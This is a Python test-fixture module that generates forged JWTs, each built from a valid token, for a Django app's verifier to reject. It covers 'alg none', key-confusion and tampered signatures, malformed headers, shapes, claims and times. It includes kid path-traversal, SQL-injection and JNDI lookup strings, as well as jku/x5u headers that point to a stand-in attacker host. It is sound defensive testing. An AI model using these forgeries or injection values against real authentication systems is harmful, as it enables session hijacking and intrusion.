"""JWTs that look like one of ours and are not: each is made from a good one of alice's, and must be refused."""

import base64
import hmac
import json
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat
from django.conf import settings

from sessions_app import tokens
from sessions_app.jwt import own
from sessions_app.models import TokenFamily

NOW = int(time.time())
Forge = Callable[["Good"], str]


@dataclass(frozen=True)
class Good:
    """A valid token, taken apart, and what signs it."""

    text: str
    family: TokenFamily
    other_family: TokenFamily
    """Of the same user."""
    stranger_s: TokenFamily
    """Of another."""

    @property
    def header(self) -> dict[str, Any]:
        return jwt.get_unverified_header(self.text)

    @property
    def claims(self) -> dict[str, Any]:
        claims: dict[str, Any] = json.loads(decoded(self.text.split(".")[1]))
        return claims


def encoded(value: bytes) -> str:
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


def decoded(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def own_key() -> bytes:
    return tokens.purpose_key(settings.SECRET_KEY, "jwt")


def raw(header: Any, payload: Any, key: bytes | None = None, digest: str = "sha256") -> str:
    """Signed with HMAC, whatever the header says. Bytes and texts go in as they are."""
    parts = [value if isinstance(value, bytes) else json.dumps(value).encode() for value in (header, payload)]
    body = ".".join(map(encoded, parts))
    return f"{body}.{encoded(hmac.digest(own_key() if key is None else key, body.encode(), digest))}"


def with_claims(**changes: Any) -> Forge:
    """Properly signed. An ellipsis takes a claim away."""

    def forge(good: Good) -> str:
        claims = {name: value for name, value in {**good.claims, **changes}.items() if value is not ...}
        return raw(good.header, claims)

    return forge


def with_header(**changes: Any) -> Forge:
    def forge(good: Good) -> str:
        header = {name: value for name, value in {**good.header, **changes}.items() if value is not ...}
        return raw(header, good.claims)

    return forge


def claims(name: str, *values: Any) -> dict[str, Forge]:
    return {f"{name} {value!r}"[:60]: with_claims(**{name: value}) for value in values}


def headers(name: str, *values: Any) -> dict[str, Forge]:
    return {f"{name} {value!r}"[:60]: with_header(**{name: value}) for value in values}


def with_raw_claim(name: str, text: str) -> Forge:
    """A value that Python would not write, such as NaN; of a claim that is there already, or not."""

    def forge(good: Good) -> str:
        claims = {key: value for key, value in good.claims.items() if key != name}
        return raw(good.header, f'{json.dumps(claims)[:-1]}, "{name}": {text}}}'.encode())

    return forge


def with_raw_header(text: str) -> Forge:
    return lambda good: raw((json.dumps(good.header)[:-1] + text).encode(), good.claims)


def text(change: Callable[[str], str]) -> Forge:
    return lambda good: change(good.text)


def signed(key: bytes | None, digest: str = "sha256", **header: Any) -> Forge:
    return lambda good: raw({**good.header, **header}, good.claims, key, digest)


@cache
def rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(65537, 2048)


@cache
def ec_key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def pem(key: Any) -> bytes:
    value: bytes = key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    return value


def der(key: Any) -> bytes:
    value: bytes = key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return value


def private_pem(key: Any) -> bytes:
    value: bytes = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    return value


def by_private_key(key: Callable[[], Any], algorithm: str, **header: Any) -> Forge:
    return lambda good: jwt.encode(
        good.claims, private_pem(key()), algorithm, headers={**good.header, "alg": algorithm, **header}
    )


def unsigned(algorithm: str, signature: str = "") -> Forge:
    def forge(good: Good) -> str:
        header = {**good.header, "alg": algorithm}
        return f"{encoded(json.dumps(header).encode())}.{good.text.split('.')[1]}.{signature}"

    return forge


def swapped(part: int, value: Callable[[str], str]) -> Forge:
    def forge(good: Good) -> str:
        parts = good.text.split(".")
        parts[part] = value(parts[part])
        return ".".join(parts)

    return forge


def of_family(which: str, **changes: Any) -> Forge:
    def forge(good: Good) -> str:
        other: TokenFamily = getattr(good, which)
        return raw(good.header, {**good.claims, "fam": other.public_id, **changes})

    return forge


def elsewhere(purpose: str) -> Forge:
    """Signed with a key that is derived for something else."""
    return lambda good: raw(good.header, good.claims, tokens.purpose_key(settings.SECRET_KEY, purpose))


def flipped(position: int) -> Callable[[str], str]:
    return lambda part: part[:position] + ("A" if part[position] != "A" else "B") + part[position + 1 :]


def loose_end(part: str) -> str:
    """The last character has bits to spare: another one decodes to the same bytes."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return part[:-1] + alphabet[alphabet.index(part[-1]) ^ 1]


SIGNATURES: Mapping[str, Forge] = {
    **{f"alg {name}": unsigned(name) for name in ("none", "None", "nOnE", "NONE", "", "HS256")},
    **{f"alg {name}, some signature": unsigned(name, "AAAA") for name in ("none", "NONE", "HS256")},
    "alg none, signed": with_header(alg="none"),
    **headers("alg", None, 1, ["HS256"], {}, "hs256", "HS256 "),
    "no alg": with_header(alg=...),
    "HS384 under our key": signed(None, "sha384", alg="HS384"),
    "HS512 under our key": signed(None, "sha512", alg="HS512"),
    "HS256 by alg, HS512 by signature": signed(None, "sha512"),
    "RS256": by_private_key(rsa_key, "RS256"),
    "PS256": by_private_key(rsa_key, "PS256"),
    "ES256": by_private_key(ec_key, "ES256"),
    "RS256 by alg alone": with_header(alg="RS256"),
    "EdDSA by alg alone": with_header(alg="EdDSA"),
    "an RSA public key as the secret": lambda good: signed(pem(rsa_key()))(good),
    "the same, stripped": lambda good: signed(pem(rsa_key()).strip())(good),
    "the same with leading whitespace": lambda good: signed(b" \n" + pem(rsa_key()))(good),
    "the same with trailing whitespace": lambda good: signed(pem(rsa_key()) + b"\t\n")(good),
    "the same with CRLF": lambda good: signed(pem(rsa_key()).replace(b"\n", b"\r\n"))(good),
    "the same as DER": lambda good: signed(der(rsa_key()))(good),
    "an EC public key as the secret": lambda good: signed(pem(ec_key()))(good),
    "an empty secret": signed(b""),
    "a secret of one letter": signed(b"x"),
    "SECRET_KEY itself": lambda good: signed(settings.SECRET_KEY.encode())(good),
    "the key of API keys": elsewhere("token/cgk"),
    "the key of refresh tokens": elsewhere("token/cgr"),
    "the key of requestState": elsewhere("request-state"),
    "another server's key": signed(b"k" * 32),
    "a changed signature": swapped(2, flipped(0)),
    "a signature that is cut": swapped(2, lambda part: part[:-2]),
    "a signature that goes on": swapped(2, lambda part: f"{part}AA"),
    "a signature with loose bits": swapped(2, loose_end),
    "no signature": swapped(2, lambda part: ""),
    "a changed payload": swapped(1, flipped(30)),
    "a changed header": swapped(0, flipped(30)),
    "another's payload": swapped(1, lambda part: encoded(decoded(part).replace(b'"sub":"', b'"sub":"1'))),
}

HEADERS: Mapping[str, Forge] = {
    "no kid": with_header(kid=...),
    **headers(
        "kid",
        None, "", " ", "unknown", "0" * 16, "../../../../dev/null", "/dev/null", "' OR 1=1 --",
        "x' UNION SELECT 'secret' --", "k" * 201, "k" * 4000, 0, 1.5, True, [], ["x"], {}, "a\x00b", "ключ",
        "https://evil.example/key", "${jndi:ldap://evil.example}", "\ud800"
    ),
    "kid with a blank": lambda good: with_header(kid=f" {good.header['kid']}")(good),
    "kid in capitals": lambda good: with_header(kid=good.header["kid"].upper() + "X")(good),
    "jku": with_header(jku="https://evil.example/jwks.json"),
    "jwk": with_header(jwk={"kty": "oct", "k": encoded(b"k" * 32)}),
    "x5u": with_header(x5u="https://evil.example/cert.pem"),
    "x5c": with_header(x5c=["MIIB"]),
    "crit": with_header(crit=["exp"], exp=NOW + 60),
    "crit b64": with_header(crit=["b64"], b64=True),
    "empty crit": with_header(crit=[]),
    "b64 false": with_header(crit=["b64"], b64=False),
    "b64 without crit": with_header(b64=False),
    "cty JWT": with_header(cty="JWT"),
    "zip": with_header(zip="DEF"),
    "enc": with_header(enc="A256GCM"),
    "no typ": with_header(typ=...),
    **headers(
        "typ",
        None, "", "JWT", "jwt", "id+jwt", "refresh+jwt", "AT+JWT", "at+jwt ", "application/at+jwt", 1, ["at+jwt"]
    ),
    "alg twice": with_raw_header(', "alg": "none"}'),
    "kid twice": with_raw_header(', "kid": "other"}'),
    "a header that is a list": lambda good: raw([good.header], good.claims),
    "a header that is a text": lambda good: raw("header", good.claims),
    "a header that is null": lambda good: raw(None, good.claims),
    "a header that is no JSON": lambda good: raw(b"{", good.claims),
    "a header of UTF-16": lambda good: raw(json.dumps(good.header).encode("utf-16"), good.claims),
    "a header with a BOM": lambda good: raw(b"\xef\xbb\xbf" + json.dumps(good.header).encode(), good.claims),
    "a deep header": with_raw_header(', "x": ' + "[" * 1500 + "]" * 1500 + "}"),
    "a header with NaN": with_raw_header(', "x": NaN}'),
    "a header of 10 000 digits": with_raw_header(f', "x": {"9" * 4000}}}'),
}  # fmt: skip

SHAPES: Mapping[str, Forge] = {
    "nothing but dots": lambda good: "..",
    "four parts": text(lambda token: f"{token}.AAAA"),
    "five parts": text(lambda token: f"{token}.AAAA.AAAA"),
    "a dot at the end": text(lambda token: f"{token}."),
    "dots at the end": text(lambda token: f"{token}..."),
    "a dot in front": text(lambda token: f".{token}"),
    "two parts": text(lambda token: token.rpartition(".")[0]),
    "one part": text(lambda token: token.split(".")[0]),
    "an empty payload": swapped(1, lambda part: ""),
    "an empty header": swapped(0, lambda part: ""),
    "padding": swapped(0, lambda part: part + "=" * (-len(part) % 4 or 4)),
    "the other alphabet": swapped(1, lambda part: f"{part}+/"),
    "a line break within": swapped(1, lambda part: f"{part[:10]}\t{part[10:]}"),
    "a blank within": swapped(1, lambda part: f"{part[:10]} {part[10:]}"),
    "encoded twice": text(lambda token: ".".join(encoded(part.encode()) for part in token.split("."))),
    "encoded as a whole": text(lambda token: encoded(token.encode())),
    "a token within a token": lambda good: raw({**good.header}, good.text.encode()),
    "a quoted token": text(lambda token: f'"{token}"'),
    "Bearer twice": text(lambda token: f"Bearer {token}"),
    "latin letters": text(lambda token: token.replace(".", ".é", 1)),
    "a length of base64 that cannot be": swapped(1, lambda part: part[: (len(part) - 1) // 4 * 4 - 3]),
    "a payload that is a list": lambda good: raw(good.header, [good.claims]),
    "a payload that is a text": lambda good: raw(good.header, "claims"),
    "a payload that is null": lambda good: raw(good.header, None),
    "a payload that is no JSON": lambda good: raw(good.header, b"{]"),
    "a payload that is not UTF-8": lambda good: raw(good.header, b'{"iss": "\xff"}'),
    "a payload of UTF-16": lambda good: raw(good.header, json.dumps(good.claims).encode("utf-16")),
    "a deep payload": with_raw_claim("x", "[" * 1500 + "]" * 1500),
    "a JSON form": lambda good: json.dumps({"payload": good.text, "signatures": []}),
    "much too long": lambda good: with_claims(x="x" * 8000)(good)[:8150],
}

CLAIMS: Mapping[str, Forge] = {
    **{f"no {name}": with_claims(**{name: ...}) for name in ("iss", "aud", "sub", "iat", "exp", "jti", "fam")},
    **{f"{name} null": with_claims(**{name: None}) for name in ("iss", "aud", "sub", "iat", "exp", "jti", "fam")},
    **{f"{name} empty": with_claims(**{name: ""}) for name in ("iss", "aud", "sub", "iat", "exp", "jti", "fam")},
    **claims(
        "iss",
        "https://evil.example", "http://127.0.0.1:8000/", "HTTP://127.0.0.1:8000", ["http://127.0.0.1:8000"], 1,
        "http://127.0.0.1:8000 ", {}, True
    ),
    **claims(
        "aud",
        "http://127.0.0.1:8000", "http://127.0.0.1:8000/mcp/", "http://127.0.0.1:8000/mcp/guest", [],
        ["http://127.0.0.1:8000/mcp"], ["http://127.0.0.1:8000/mcp", "other"], "https://evil.example/mcp", 1, {},
        "http://127.0.0.1:8000/MCP", True, "*"
    ),
    **claims(
        "sub",
        0, 1, True, "0", "-1", "999999999", "9" * 200, ["1"], {}, "alice", "1 OR 1=1", "0x1", "1.0", " 1",
        "\u0661"
    ),
    "sub a number": lambda good: with_claims(sub=good.family.user_id)(good),
    "sub with a zero in front": lambda good: with_claims(sub=f"0{good.family.user_id}")(good),
    "sub of another": lambda good: with_claims(sub=str(good.stranger_s.user_id))(good),
    **claims("jti", 1, True, [], ["x"], {}, "j" * 256, 1.5),
    **claims(
        "fam",
        1, True, [], {}, "unknown", "f" * 256, "' OR 1=1 --", "cgf_x", "\u202e"
    ),
    "fam of another": of_family("stranger_s"),
    "fam and sub of two": lambda good: of_family("stranger_s", sub=str(good.family.user_id))(good),
    "fam with its prefix": lambda good: with_claims(fam=good.family.prefix)(good),
    "scopes that its family lacks": with_claims(permissions=["sessions_app.delete_user"]),
    "no scopes at all": with_claims(permissions=[]),
    **claims(
        "permissions",
        None, "read", {}, 1, True, [1], [None], [["x"]], ["read", 1], "*"
    ),
    "claims twice": with_raw_claim("x", '1, "exp": 99999999999'),
    "sub twice": with_raw_claim("x", '1, "sub": "1"'),
    "NUL within": with_raw_claim("jti", '"a\\u0000b"'),
    "half a character": with_raw_claim("jti", '"\\ud800"'),
}  # fmt: skip

TIMES: Mapping[str, Forge] = {
    **{f"exp {what}": with_claims(exp=value) for what, value in {
        "long ago": NOW - 3600, "zero": 0, "negative": -1, "a text": str(NOW + 300), "a float": NOW + 300.0,
        "true": True, "a list": [NOW + 300], "an object": {}, "in a year": NOW + 31_536_000,
        "a date": "2030-01-01",
        "milliseconds": (NOW + 300) * 1000, "2**53": 2**53, "2**63": 2**63, "2**64": 2**64, "-2**63": -(2**63),
    }.items()},
    **{f"iat {what}": with_claims(iat=value) for what, value in {
        "zero": 0, "negative": -1, "a text": str(NOW), "a float": float(NOW), "false": False, "a list": [NOW],
        "tomorrow": NOW + 86_400, "long ago": NOW - 86_400, "2**63": 2**63,
    }.items()},
    "iat tomorrow, exp later": with_claims(iat=NOW + 86_400, exp=NOW + 86_700),
    "iat after exp": with_claims(iat=NOW + 20, exp=NOW + 10),
    "iat at exp": with_claims(iat=NOW, exp=NOW),
    "a second too long": lambda good: with_claims(exp=good.claims["iat"] + own.LIFETIME + 1)(good),
    "nbf tomorrow": with_claims(nbf=NOW + 86_400),
    **claims("nbf", None, "0", 1.5, True, -1, [], 2**63),
    **{f"{name} {value}": with_raw_claim(name, value) for name in ("exp", "iat") for value in (
        "NaN", "Infinity", "-Infinity", "1e400", "1e10", "9" * 400, "9" * 3000, "0x7fffffff", "1_000", "01", "-0",
    )},
    "exp beyond the leeway": lambda good: with_claims(iat=NOW - 300, exp=int(time.time()) - 31)(good),
    "iat beyond the leeway": lambda good: with_claims(iat=int(time.time()) + 33, exp=int(time.time()) + 93)(good),
    "nbf beyond the leeway": lambda good: with_claims(nbf=int(time.time()) + 33)(good),
}  # fmt: skip

FORGED: Mapping[str, Forge] = {
    f"{group}: {name}": forge
    for group, cases in (
        ("signature", SIGNATURES), ("header", HEADERS), ("shape", SHAPES), ("claims", CLAIMS), ("times", TIMES),
    )
    for name, forge in cases.items()
}  # fmt: skip
